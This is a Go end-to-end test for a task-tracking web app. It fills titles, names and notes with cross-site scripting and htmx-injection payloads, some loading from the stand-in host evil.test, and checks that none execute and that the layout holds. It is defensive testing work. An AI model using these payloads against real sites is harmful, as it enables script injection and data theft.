package e2e_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"docket/internal/testkit"
)

// hostileWords are what somebody might write to make another's page do
// something. Whatever runs sets window.pwned or asks for the host evil.test.
var hostileWords = words{
	person: `<img src=x onerror="pwned=1">` + "\u202eAna",
	list:   `"><img src=//evil.test/l onerror=pwned=1> '\` + "`",
	titles: []string{
		`<script>window.pwned = 1</script>`,
		`"><img src=x onerror="window.pwned=1">`,
		`<svg onload=pwned=1><use href="//evil.test/#x"/></svg>`,
		`</textarea></title></style><script src="//evil.test/x.js"></script>`,
		`" hx-get="//evil.test/hx" hx-trigger="load" autofocus onfocus="pwned=1`,
		`<hx-partial hx-target="body"><b id=injected>x</b></hx-partial>`,
		"{{ constructor.constructor('pwned=1')() }} ${pwned=1} <%= 1 %> `+pwned+`",
		strings.Repeat("W", 450),
		"right to left is taken out, and \u2067isolated",
		strings.Repeat("👩‍👩‍👧‍👦🏳️‍🌈", 20) + " e" + strings.Repeat("\u0301", 40),
		`javascript:pwned=1//&lt;&quot;&#39;%00%0d`,
	},
	notes: "[a](javascript:window.pwned=1) <javascript:pwned=1> [b](data:text/html,<script>parent.pwned=1</script>)\n\n" +
		"![i](http://evil.test/i.png) ![j](//evil.test/j.png \"t\")\n\n<script>window.pwned=1</script>\n\n<img src=x onerror=pwned=1>\n\n" +
		"<svg onload=pwned=1></svg><iframe src=//evil.test/></iframe><style>@import '//evil.test/s.css'</style>\n\n" +
		"<div hx-get=\"//evil.test/\" hx-trigger=load id=toasts data-task=x>x</div>\n\n</textarea><hx-partial hx-target=body>gone</hx-partial>\n\n" +
		"```\n" + strings.Repeat("w", 400) + "\n```\n\n" + strings.Repeat("V", 500) + "\n\n| " + strings.Repeat("a | ", 40) + "\n|" + strings.Repeat("-|", 40) +
		"\n\n[" + strings.Repeat("L", 300) + "](http://evil.test/)\n\nhttp://evil.test/" + strings.Repeat("u", 300),
}

func TestHostileTextDoesNothingAndFits(t *testing.T) {
	t.Parallel()
	w := newWorld(t, hostileWords)
	look := func(t *testing.T, p person, s stop) {
		t.Helper()
		width := testkit.Eval[int](p.Page, "document.documentElement.clientWidth")
		if testkit.Eval[bool](p.Page, `"pwned" in window || !!document.getElementById("injected") || !document.querySelector("main")`) {
			t.Errorf("%s at %d: what was written became part of the page", s.name, width)
		}
		for _, fault := range testkit.Eval[[]string](p.Page, `[...document.querySelectorAll("*")].flatMap((e) => [...e.attributes].filter((a) =>
			a.name.startsWith("on") || /^\s*(javascript|data|vbscript):/i.test(a.value) && a.name !== "value" || /^(src|action|formaction|hx-\w+)$/.test(a.name) && /evil/.test(a.value))
			.map((a) => a.name + "=" + a.value + " in " + e.outerHTML.slice(0, 200)))`) {
			t.Errorf("%s at %d: %s", s.name, width, fault)
		}
		for _, fault := range layout(p) {
			t.Errorf("%s at %d: %s", s.name, width, fault)
		}
		shoot(t, p, fmt.Sprintf("hostile-%s-%d", s.name, width))
	}
	stops := slices.DeleteFunc(w.stops(), func(s stop) bool { return s.who != asAna }) // the others' pages hold nothing of hers
	t.Run("pages", func(t *testing.T) {
		for _, width := range []int64{1280, 390} {
			t.Run(fmt.Sprintf("%d px", width), func(t *testing.T) {
				t.Parallel()
				w.tour(t, stops, true, width, "", look)
			})
		}
		t.Run("typed", func(t *testing.T) {
			t.Parallel()
			p := visit(t, w.app, w.app.SignedIn("Cy"), true)
			p.Goto("/inbox")
			for i, title := range hostileWords.titles {
				p.Fill("#new-task", title)
				p.Press("\r")
				p.Until("its row", fmt.Sprintf(`document.querySelectorAll("#rows-open > .task").length === %d && document.getElementById("new-task").value === ""`, i+1))
			}
			p.Click("#rows-open .task:first-child .check")
			p.told("Completed “<script>window.pwned = 1</script>”")
			p.undo()
			p.told("Reopened “<script>window.pwned = 1</script>”")
			p.Click("#rows-open .task:nth-child(4) .title")
			p.See("#notes-edit")
			p.Click("summary = Add notes")
			p.Fill("#notes", hostileWords.notes)
			p.Click("button = Save notes")
			p.See("#notes-text")
			look(t, p, stop{name: "typed"})
		})
	})
}
